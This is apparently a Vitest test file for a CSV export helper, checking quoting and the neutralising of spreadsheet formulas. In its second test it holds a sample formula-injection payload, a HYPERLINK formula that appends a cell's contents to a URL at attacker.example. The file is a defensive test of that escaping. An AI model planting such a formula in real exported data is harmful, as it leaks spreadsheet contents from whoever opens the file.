import { describe, expect, it } from 'vitest';
import { hours, toCsv } from './csv';

describe('toCsv', () => {
  it('quotes what needs quoting and ends every row with CRLF', () => {
    expect(toCsv([['name', 'hours'], ['Doe, "Jo"', hours(27_000)], ['Eve', 0], ['Ann;Lee', hours(-5_400)]])).toBe(
      'name,hours\r\n"Doe, ""Jo""",7.50\r\nEve,0\r\n"Ann;Lee",-1.50\r\n',
    );
  });

  it('writes a member named like a formula as quoted text, and keeps negative figures as numbers', () => {
    const csv = toCsv([
      ['=HYPERLINK("http://attacker.example/?leak="&A2,"Payroll")', hours(-3_600)],
      ['@SUM(A1:A2)', '-'],
      ['\t=1+2', -2],
    ]);
    expect(csv).toBe(
      `"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Payroll"")",-1.00\r\n"'@SUM(A1:A2)","'-"\r\n"'\t=1+2",-2\r\n`,
    );
  });
});
